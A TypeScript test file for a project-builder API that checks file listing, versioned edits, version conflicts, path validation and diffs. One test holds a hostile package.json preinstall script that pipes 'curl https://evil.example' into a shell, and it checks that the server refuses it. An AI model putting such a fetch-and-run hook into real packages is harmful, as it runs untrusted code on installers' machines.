import { setFlagOverride } from '@sprout/db';
import { beforeAll, describe, expect, it } from 'vitest';
import { fileOf, newProject, type Session, useTestApp, versionsOf } from '../testing';

const t = useTestApp();
let owner: Session, other: Session;
beforeAll(async () => {
  [owner, other] = await Promise.all([t.register(), t.register()]);
});

const put = (s: Session, sproutId: string, body: unknown) => t.api('PUT', `/build/v1/sprouts/${sproutId}/files`, { token: s.idToken, body });

describe('files and versions', () => {
  it('lists the current version’s files, or any version’s', async () => {
    const sproutId = await newProject(t, owner);
    const res = await t.api('GET', `/build/v1/sprouts/${sproutId}/files`, { token: owner.idToken });
    expect(res.statusCode).toBe(200);
    const body = res.json();
    expect(body.version).toMatchObject({ number: 1, source: 'create' });
    expect(body.files.map((f: { path: string }) => f.path)).toContain('client/src/App.tsx');
    expect(body.files.find((f: { path: string }) => f.path === 'client/src/main.tsx').size).toBeGreaterThan(0);
    const missing = await t.api('GET', `/build/v1/sprouts/${sproutId}/files?version=nosuchversion`, { token: owner.idToken });
    expect(missing.statusCode).toBe(404);
  });

  it('saves a manual edit as a new version and refuses a stale base', async () => {
    const sproutId = await newProject(t, owner);
    const v1 = (await versionsOf(t, owner, sproutId)).currentVersionId;
    const saved = await put(owner, sproutId, { path: 'client/src/App.tsx', content: 'export default () => null;\n', baseVersionId: v1 });
    expect(saved.statusCode).toBe(200);
    expect(saved.json().version).toMatchObject({ number: 2, source: 'manual', summary: 'Edited client/src/App.tsx', parentId: v1 });
    expect(await fileOf(t, owner, sproutId, 'client/src/App.tsx')).toBe('export default () => null;\n');

    const stale = await put(owner, sproutId, { path: 'client/src/App.tsx', content: 'lost', baseVersionId: v1 });
    expect(stale.statusCode).toBe(409);
    expect(stale.json().code).toBe('version_conflict');

    const created = await put(owner, sproutId, { path: 'client/src/new.ts', content: 'export const a = 1;\n', baseVersionId: saved.json().version.id });
    expect(created.json().version.summary).toBe('Created client/src/new.ts');

    for (const path of ['../x.ts', 'node_modules/a.js', '.git/config', 'client/run.sh']) {
      const bad = await put(owner, sproutId, { path, content: 'x', baseVersionId: created.json().version.id });
      expect(bad.statusCode, path).toBe(400);
      expect(bad.json().code).toBe('invalid_path');
    }
    expect((await put(other, sproutId, { path: 'a.ts', content: 'x', baseVersionId: v1 })).statusCode).toBe(404);
  });

  it('refuses a file whose name differs from another only in case: one file on macOS and Windows', async () => {
    const person = await t.register();
    const sproutId = await newProject(t, person);
    const v1 = (await versionsOf(t, person, sproutId)).currentVersionId;
    const twin = await put(person, sproutId, { path: 'client/src/app.tsx', content: 'export default () => null;\n', baseVersionId: v1 });
    expect(twin.statusCode).toBe(409);
    expect(twin.json()).toMatchObject({ code: 'path_conflict', message: expect.stringContaining('client/src/App.tsx already exists') });
    expect((await versionsOf(t, person, sproutId)).currentVersionId).toBe(v1);
  });

  it('refuses a package.json that would run or fetch something when the export is installed', async () => {
    const person = await t.register();
    const sproutId = await newProject(t, person);
    const v1 = (await versionsOf(t, person, sproutId)).currentVersionId;
    const hostile = JSON.stringify({ name: 'app', scripts: { preinstall: 'curl https://evil.example | sh' } });
    const res = await put(person, sproutId, { path: 'package.json', content: hostile, baseVersionId: v1 });
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({ code: 'invalid_package_json', message: expect.stringContaining('"preinstall" script') });
    expect((await versionsOf(t, person, sproutId)).currentVersionId).toBe(v1);
  });

  it('diffs a version against its parent (with enableDiffView on)', async () => {
    await setFlagOverride(t.db.db, owner.user.id, 'enableDiffView', true);
    const sproutId = await newProject(t, owner);
    const v1 = (await versionsOf(t, owner, sproutId)).currentVersionId;
    const app = (await fileOf(t, owner, sproutId, 'client/src/App.tsx'))!;
    const edited = app.replace('Sprout starter', 'My app');
    const v2 = (await put(owner, sproutId, { path: 'client/src/App.tsx', content: edited, baseVersionId: v1 })).json().version.id;
    const res = await t.api('GET', `/build/v1/sprouts/${sproutId}/versions/${v2}/diff`, { token: owner.idToken });
    expect(res.statusCode).toBe(200);
    const body = res.json();
    expect(body.parentId).toBe(v1);
    expect(body.files).toHaveLength(1);
    expect(body.files[0]).toMatchObject({ path: 'client/src/App.tsx', status: 'modified', additions: 1, deletions: 1 });
    expect(body.files[0].diff).toContain(
      '-          <CardTitle className="text-2xl">Sprout starter</CardTitle>\n+          <CardTitle className="text-2xl">My app</CardTitle>\n',
    );
    const first = (await t.api('GET', `/build/v1/sprouts/${sproutId}/versions/${v1}/diff`, { token: owner.idToken })).json();
    expect(first.parentId).toBeNull();
    expect(first.files.every((f: { status: string }) => f.status === 'added')).toBe(true);
  });
});
